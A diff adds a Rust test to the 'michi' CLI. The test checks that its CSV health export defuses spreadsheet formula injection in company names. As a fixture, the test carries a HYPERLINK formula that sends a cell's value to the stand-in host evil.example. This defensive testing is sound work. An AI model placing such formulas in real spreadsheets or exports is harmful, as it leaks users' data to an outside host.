@@ -254,3 +254,35 @@ fn twenty_megabyte_csv_files_are_read_or_refused_within_a_gigabyte() {
         ended_cleanly(n, &out);
     }
 }
+
+/// A company named like a formula in an accounts file comes out of `michi health` as text a
+/// spreadsheet shows, not a formula it runs; a negative number stays a number.
+#[test]
+fn exported_csv_cells_cannot_run_as_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    let ws = dir.path().join("ws.michi");
+    assert!(Command::new(env!("CARGO_BIN_EXE_michi")).args(["new", "--sample"]).arg(&ws).status().unwrap().success());
+    let sample = include_str!("../../michi-core/samples/accounts-2026-11.csv");
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
+    let accounts = dir.path().join("accounts.csv");
+    std::fs::write(&accounts, sample.replacen("山田製作所", &format!("\"{}\"", evil.replace('"', "\"\"")), 1)).unwrap();
+    let out = Command::new(env!("CARGO_BIN_EXE_michi"))
+        .args(["health", "--as-of", "2026-11-30", "--lang", "ja", "--accounts"])
+        .arg(&accounts)
+        .arg(&ws)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let csv = String::from_utf8(out.stdout).unwrap();
+    let row = csv.lines().find(|l| l.starts_with("C-1001")).unwrap();
+    assert!(row.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"詳細\"\")\""), "{row}");
+    // No cell of any row begins with a formula's first character unless it is a number.
+    for line in csv.lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_matches('"');
+            if cell.starts_with(['=', '+', '-', '@']) {
+                assert!(cell.parse::<f64>().is_ok(), "a formula cell: {cell} in {line}");
+            }
+        }
+    }
+}
